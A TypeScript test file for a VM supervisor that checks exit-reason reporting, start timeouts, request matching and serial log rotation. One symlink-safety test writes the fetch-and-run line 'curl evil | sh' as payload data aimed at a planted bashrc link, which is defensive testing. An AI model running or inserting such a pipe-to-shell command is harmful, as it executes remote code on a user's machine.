// Issue 15, finding 8: the supervisor reports how an engine host really ended (a
// SIGSEGV is a crash with the signal's name, not "killed"), a start that never
// answers times out and its host is killed, and the serial log is capped and rotated.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ExitReason } from '../../common/contracts/vm';
import type { ToHost } from '../../common/contracts/engine-host';
import { EngineHost } from '../../engine-host/host-core';
import { type HostChannel, Supervisor } from '../supervisor';
import { FakeMachine, fakeAddon } from './fake-engine';

/** A host channel the test drives by hand. */
function manualHost() {
  let onMsg: (m: unknown) => void = () => undefined;
  let onExit: (code: number | null, sig: string | null) => void = () => undefined;
  const sent: ToHost[] = [];
  const kills: string[] = [];
  const ch: HostChannel = {
    pid: 4242,
    send: (m) => sent.push(m),
    onMessage: (cb) => (onMsg = cb),
    onExit: (cb) => (onExit = cb),
    kill: (sig) => {
      kills.push(sig);
      setTimeout(() => onExit(null, sig), 1);
    },
  };
  return { ch, sent, kills, msg: (m: unknown) => onMsg(m), exit: (code: number | null, sig: string | null) => onExit(code, sig) };
}

function supervised(opts: { startTimeoutMs?: number } = {}) {
  const host = manualHost();
  const states: Array<{ state: string; exit?: ExitReason }> = [];
  const sup = new Supervisor(() => host.ch, { state: (_u, state, exit) => states.push({ state, ...(exit ? { exit } : {}) }), stats: () => undefined }, opts);
  return { host, states, sup };
}

const UUID = '00000000-0000-4000-8000-000000000001';

describe('supervisor exit reasons', () => {
  it('an engine host that dies of SIGSEGV is crashed, with the signal named', async () => {
    const { host, states, sup } = supervised();
    const started = sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    host.msg({ t: 'state', state: 'running' });
    await started;
    host.exit(null, 'SIGSEGV');
    expect(states.at(-1)).toEqual({ state: 'crashed', exit: { kind: 'crashed', reason: 'the engine host died of SIGSEGV (segmentation fault)' } });
    expect(sup.isRunning(UUID)).toBe(false);
  });

  it('a SIGKILL nobody in Vireo sent (the OOM killer) is a crash; Force Off is killed', async () => {
    const a = supervised();
    const s1 = a.sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    a.host.msg({ t: 'state', state: 'running' });
    await s1;
    a.host.exit(null, 'SIGKILL');
    expect(a.states.at(-1)!.exit).toEqual({ kind: 'crashed', reason: expect.stringMatching(/died of SIGKILL \(killed by another process or the out-of-memory killer\)/) });

    const b = supervised();
    const s2 = b.sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    b.host.msg({ t: 'state', state: 'running' });
    await s2;
    b.sup.kill(UUID);
    await new Promise((r) => setTimeout(r, 10));
    expect(b.states.at(-1)).toEqual({ state: 'shutoff', exit: { kind: 'killed', signal: 'SIGKILL' } });
  });

  it('a start that never answers fails with a clear error after the timeout and the stuck host is killed', async () => {
    const { host, states, sup } = supervised({ startTimeoutMs: 50 });
    const t0 = Date.now();
    await expect(sup.start(UUID, { memoryMiB: 16, cpus: 1 })).rejects.toThrow(/did not start the machine within 0 s; its host process \(pid 4242\) was killed/);
    expect(Date.now() - t0).toBeLessThan(2000);
    expect(host.kills).toEqual(['SIGKILL']);
    await new Promise((r) => setTimeout(r, 10));
    expect(sup.isRunning(UUID)).toBe(false);
    expect(states.at(-1)!.state).toBe('crashed');
    expect(states.at(-1)!.exit).toMatchObject({ kind: 'crashed', reason: expect.stringMatching(/did not start the machine/) });
  });

  it('a start that answers in time is not killed later', async () => {
    const { host, sup } = supervised({ startTimeoutMs: 30 });
    const started = sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    host.msg({ t: 'state', state: 'running' });
    await started;
    await new Promise((r) => setTimeout(r, 80));
    expect(host.kills).toEqual([]);
    expect(sup.isRunning(UUID)).toBe(true);
  });
});

describe('supervisor requests to the host', () => {
  it('each request gets its own answer by reqId; errors, timeouts and the host exiting reject the waiting ones', async () => {
    const { host, sup } = supervised();
    const started = sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    host.msg({ t: 'state', state: 'running' });
    await started;
    const shot = sup.screenshot(UUID);
    const devs = sup.devices(UUID);
    const nics = sup.nics(UUID, { index: 0, up: false });
    const media = sup.changeMedia(UUID, null);
    const reqs = host.sent.filter((m) => 'reqId' in m) as Array<ToHost & { reqId: number }>;
    expect(reqs.map((m) => m.t)).toEqual(['screenshot', 'devices', 'nics', 'media']);
    expect(new Set(reqs.map((m) => m.reqId)).size).toBe(4);
    expect(reqs[2]).toMatchObject({ link: { index: 0, up: false } });
    // Answers out of order, each to its own request.
    host.msg({ t: 'media', reqId: reqs[3]!.reqId, ejected: false });
    host.msg({ t: 'screenshot', reqId: reqs[0]!.reqId, png: new Uint8Array([1, 2, 3]) });
    host.msg({ t: 'devices', reqId: reqs[1]!.reqId, error: 'no PC board' });
    await expect(media).resolves.toEqual({ ejected: false });
    await expect(shot).resolves.toEqual(new Uint8Array([1, 2, 3]));
    await expect(devs).rejects.toThrow('no PC board');
    // An answer to an unknown or already answered request changes nothing.
    host.msg({ t: 'devices', reqId: reqs[1]!.reqId, pci: [] });
    // A request still waiting when the host exits is rejected at once (not after its timeout).
    const late = sup.snapshot(UUID, 'create', 's1');
    host.exit(0, null);
    await expect(nics).rejects.toThrow();
    await expect(late).rejects.toThrow();
    // No answer at all: the timeout names what was asked.
    const b = supervised();
    const s2 = b.sup.start(UUID, { memoryMiB: 16, cpus: 1 });
    b.host.msg({ t: 'state', state: 'running' });
    await s2;
    await expect(b.sup.devices(UUID, 20)).rejects.toThrow('the engine did not answer the device list request');
  });
});

describe('serial log', () => {
  let tmp: string;
  beforeEach(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'vireo-serlog-'));
  });
  afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

  function runHost(config: Record<string, unknown>) {
    const host = new EngineHost(fakeAddon, () => undefined, () => undefined);
    host.handle({ t: 'start', config: { memoryMiB: 16, cpus: 1, ...config } } as ToHost);
    return { host, machine: FakeMachine.last! };
  }

  it('is capped and rotated: the newest output is kept, at most two files of the cap each', () => {
    const log = path.join(tmp, 'com1.log');
    const { host, machine } = runHost({ serialFile: log, serialLogMaxBytes: 1000 });
    let all = '';
    for (let i = 0; i < 50; i++) {
      const line = `line ${String(i).padStart(3, '0')} ${'x'.repeat(80)}\n`;
      all += line;
      machine.emitSerial(new TextEncoder().encode(line));
    }
    host.handle({ t: 'stop' });
    expect(fs.statSync(log).size).toBeLessThanOrEqual(1000);
    expect(fs.statSync(`${log}.1`).size).toBeLessThanOrEqual(1000);
    const kept = fs.readFileSync(`${log}.1`, 'utf8') + fs.readFileSync(log, 'utf8');
    expect(all.endsWith(kept)).toBe(true);
    expect(kept.length).toBeGreaterThan(1000);
    expect(fs.readdirSync(tmp).sort()).toEqual(['com1.log', 'com1.log.1']);
  });

  it('never writes through a symlink planted at the log name', () => {
    const victim = path.join(tmp, 'bashrc');
    fs.writeFileSync(victim, 'echo hi\n');
    const log = path.join(tmp, 'com1.log');
    fs.symlinkSync(victim, log);
    const { host, machine } = runHost({ serialFile: log });
    machine.emitSerial(new TextEncoder().encode('curl evil | sh\n'));
    host.handle({ t: 'stop' });
    expect(fs.readFileSync(victim, 'utf8')).toBe('echo hi\n');
  });
});
